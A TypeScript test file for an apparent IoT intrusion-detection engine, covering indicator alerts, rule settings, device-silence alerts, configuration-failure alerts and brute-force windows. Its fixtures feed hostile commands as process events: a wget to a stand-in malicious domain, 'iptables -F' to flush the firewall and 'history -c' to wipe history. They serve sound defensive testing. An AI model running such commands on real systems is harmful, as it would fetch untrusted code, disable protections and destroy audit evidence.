import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { JsonObject } from '@twinward/protocol'
import { FakeGroups } from '../../test/detection-world.ts'
import { FakeClock } from '../../test/fake-clock.ts'
import { header } from '../../test/records.ts'
import { MemoryFindingStore } from '../adapters/memory/finding-store.ts'
import { MemoryIndicatorStore } from '../adapters/memory/indicator-store.ts'
import { MemoryModuleStore } from '../adapters/memory/module-store.ts'
import { MemoryPlatform } from '../adapters/memory/platform.ts'
import { MemoryRuleSettingStore } from '../adapters/memory/rule-setting-store.ts'
import { MemorySigmaStore } from '../adapters/memory/sigma-store.ts'
import { MemorySuppressionStore } from '../adapters/memory/suppression-store.ts'
import type { FindingBatch } from '../data/finding-store.ts'
import type { IngestedMessage } from '../ingestion/pipeline.ts'
import { silentLog } from '../log.ts'
import { noteSight } from '../modules/record.ts'
import { Serial } from '../serial.ts'
import { WATCH_INTERVAL_MS as CONFIGURATION_WATCH_INTERVAL_MS } from './configuration-watch.ts'
import { Detection } from './detection.ts'
import { FindingEvaluator } from './evaluator.ts'
import { WATCH_INTERVAL_MS } from './silence.ts'

const SILENT_AFTER_MS = 72 * 3_600_000
const agent = { deviceId: 'pump-1', moduleId: 'azureiotsecurity' }

/** A finding store whose commits fail as long as a test wants. */
class FlakyFindingStore extends MemoryFindingStore {
  isFailing = false

  override async commit(batch: FindingBatch) {
    if (this.isFailing) throw new Error('no commit now')
    return super.commit(batch)
  }
}

async function open(
  stores = { ruleSettings: new MemoryRuleSettingStore() },
  tags: JsonObject = {},
) {
  const clock = new FakeClock()
  const platform = new MemoryPlatform(clock)
  platform.addDevice('pump-1', tags)
  const findings = new FlakyFindingStore()
  const modules = new MemoryModuleStore()
  const indicators = new MemoryIndicatorStore()
  const ports = {
    ...{ platform, findings, modules, indicators, ...stores, clock, log: silentLog },
    ...{ suppressions: new MemorySuppressionStore(), groups: new FakeGroups(platform) },
    sigma: new MemorySigmaStore(),
  }
  const changes = new Serial()
  const touched: string[] = []
  const detection = new Detection(ports, { changes, touched: (id) => void touched.push(id) })
  await detection.start()
  const rules = {
    groups: ports.groups,
    alerts: detection.rules,
    judge: detection.judge,
    recommendations: [],
  }
  const evaluator = new FindingEvaluator(ports, rules, () => {})
  let sequence = 0
  const sendEvents = (name: string, payloads: readonly JsonObject[]) =>
    changes.run(() => {
      const enqueuedTimeMs = clock.now()
      const events = payloads.map((payload) => ({
        header: header({ eventId: `e${++sequence}`, name, timeMs: enqueuedTimeMs }),
        payload: [payload],
      }))
      const told = { schema: '1.0' as const, agentVersion: '0.0.6', agentId: 'a' }
      const message = { ref: agent, sequence, enqueuedTimeMs, body: new Uint8Array() }
      const decoded = { ...told, events, rejections: [] }
      const ingested = { message, decoded } as unknown as IngestedMessage
      return evaluator.evaluate([ingested], sequence)
    })
  const send = (CommandLine: string) => sendEvents('ProcessCreate', [{ CommandLine }])
  const sendLogins = (results: readonly string[]) =>
    sendEvents(
      'Login',
      results.map((Result) => ({ Result, UserName: 'root', RemoteAddress: '203.0.113.9' })),
    )
  const alerts = async () => (await findings.listAlerts({ limit: 100 })).items
  return { ...ports, detection, send, sendLogins, alerts, touched }
}

test('an imported indicator raises alerts from then on, and no longer when it is forgotten', async () => {
  const { detection, send, alerts } = await open()
  await send('wget http://evil.example/1')
  assert.deepEqual(await alerts(), [])
  const item = { kind: 'domain', value: 'evil.example', severity: 'High', source: 's' } as const
  const [kept] = await detection.indicators.import([item], 'ann')
  await send('wget http://evil.example/2')
  const [alert, ...others] = await alerts()
  assert.deepEqual([alert?.alertType, alert?.severity], ['IoT_PossibleMalware', 'High'])
  assert.deepEqual(others, [])
  await detection.indicators.remove(kept?.id ?? '')
  await send('wget http://evil.example/3')
  assert.equal((await alerts()).length, 1)
  await detection.close()
})

test('a rule that is off for the hub raises nothing; a group may have it on, or milder', async () => {
  const ruleSettings = new MemoryRuleSettingStore()
  const { detection, send, alerts } = await open({ ruleSettings }, { SecurityGroup: 'WEST' })
  const { settings } = detection
  await settings.set('IoT_DisableFirewall', { isEnabled: false })
  await send('iptables -F')
  assert.deepEqual(await alerts(), [])
  await settings.set('IoT_DisableFirewall', { severity: 'Low' }, 'West')
  await send('iptables -F')
  assert.deepEqual(await alerts(), [], 'the group says nothing about being on')
  await settings.set('IoT_DisableFirewall', { isEnabled: true, severity: 'Low' }, 'west')
  await send('iptables -F')
  const [alert] = await alerts()
  assert.deepEqual([alert?.alertType, alert?.severity], ['IoT_DisableFirewall', 'Low'])
  assert.deepEqual(settings.groups(), ['west'])
  await settings.set('IoT_DisableFirewall', {}, 'west')
  await settings.set('IoT_DisableFirewall', {})
  assert.deepEqual(settings.groups(), [])
  await detection.close()
})

test('settings of rules are there again after a start, and unknown rules are refused', async () => {
  const ruleSettings = new MemoryRuleSettingStore()
  const first = await open({ ruleSettings })
  await first.detection.settings.set('IoT_ClearHistoryFile', { severity: 'High' })
  const set = (type: string, group?: string) =>
    first.detection.settings.set(type, { isEnabled: false }, group)
  await assert.rejects(set('IoT_Nothing'), { code: 'GenericNotFound' })
  await assert.rejects(set('IoT_AlertFlood'), { code: 'ArgumentInvalid' })
  await assert.rejects(set('IoT_WebShell', 'g'.repeat(200)), { code: 'ArgumentInvalid' })
  await first.detection.close()
  const again = await open({ ruleSettings })
  await again.send('history -c')
  assert.equal((await again.alerts())[0]?.severity, 'High')
  await again.detection.close()
})

test('a device without a message for 72 hours raises one alert, which its next message resolves', async () => {
  const { clock, detection, send, alerts, touched } = await open()
  await send('ls')
  const startMs = clock.now()
  await clock.advance(SILENT_AFTER_MS - WATCH_INTERVAL_MS)
  assert.deepEqual(await alerts(), [])
  await clock.advance(2 * WATCH_INTERVAL_MS)
  const [alert] = await alerts()
  assert.deepEqual(
    [alert?.alertType, alert?.severity, alert?.status, alert?.startTimeMs],
    ['IoT_DeviceSilent', 'Low', 'Active', startMs],
  )
  assert.deepEqual(touched, ['pump-1'])
  await clock.advance(10 * WATCH_INTERVAL_MS)
  assert.equal((await alerts()).length, 1)
  await send('ls')
  const [resolved] = await alerts()
  assert.deepEqual([resolved?.status, resolved?.history.at(-1)?.by], ['Resolved', 'engine'])
  await clock.advance(SILENT_AFTER_MS + WATCH_INTERVAL_MS)
  assert.deepEqual(
    (await alerts()).map(({ status }) => status),
    ['Active', 'Resolved'],
  )
  await detection.close()
})

test('silence that is told already is not told again by a service that starts anew', async () => {
  const { clock, detection, send, alerts, ...ports } = await open()
  await send('ls')
  await clock.advance(SILENT_AFTER_MS + WATCH_INTERVAL_MS)
  await detection.close()
  const changes = new Serial()
  const again = new Detection({ ...ports, clock }, { changes, touched: () => {} })
  await again.start()
  await clock.advance(WATCH_INTERVAL_MS)
  assert.equal((await alerts()).length, 1)
  await again.close()
})

test('a retired device is expected to be silent', async () => {
  const { clock, detection, modules, send, alerts } = await open()
  await send('ls')
  const sight = { deviceId: 'pump-1', generation: '', moduleIds: [], isDefault: true, dueMs: 0 }
  const { record } = noteSight(undefined, { ...sight, state: 'retired' }, clock.now())
  await modules.commit({ records: [record] })
  await clock.advance(SILENT_AFTER_MS + WATCH_INTERVAL_MS)
  assert.deepEqual(await alerts(), [])
  await detection.close()
})

test('a module that refuses its configuration raises an alert, resolved when it runs it', async () => {
  const { clock, detection, modules, alerts } = await open()
  const enter = async (state: 'configError' | 'active') => {
    const sight = { deviceId: 'pump-1', generation: '', moduleIds: [], isDefault: true, dueMs: 0 }
    const before = await modules.find('pump-1')
    const { record } = noteSight(before, { ...sight, state }, clock.now())
    await modules.commit({ records: [record] })
  }
  await enter('configError')
  await clock.advance(2 * CONFIGURATION_WATCH_INTERVAL_MS)
  const told = (await alerts()).map(({ alertType, status }) => [alertType, status])
  assert.deepEqual(told, [['IoT_TwinConfigurationParseFailure', 'Active']])
  await enter('active')
  await clock.advance(CONFIGURATION_WATCH_INTERVAL_MS)
  const [resolved] = await alerts()
  assert.deepEqual([resolved?.status, resolved?.history.at(-1)?.by], ['Resolved', 'engine'])
  await enter('configError')
  await clock.advance(CONFIGURATION_WATCH_INTERVAL_MS)
  assert.deepEqual(
    (await alerts()).map(({ status }) => status),
    ['Active', 'Resolved'],
  )
  await detection.close()
})

test('a window counts once what is evaluated again because its commit failed', async () => {
  const { clock, detection, findings, send, sendLogins, alerts } = await open()
  findings.isFailing = true
  await assert.rejects(sendLogins(['Fail', 'Fail', 'Fail', 'Fail', 'Fail', 'Fail']))
  findings.isFailing = false
  await sendLogins(['Fail', 'Fail', 'Fail', 'Fail', 'Fail', 'Fail'])
  await clock.advance(1000)
  await sendLogins(['Success'])
  assert.deepEqual(await alerts(), [])
  await sendLogins([...Array.from({ length: 10 }, () => 'Fail'), 'Success'])
  const types = (await alerts()).map(({ alertType }) => alertType)
  assert.deepEqual(types, ['IoT_Bruteforce_Success'])
  await send('ls')
  await detection.close()
})
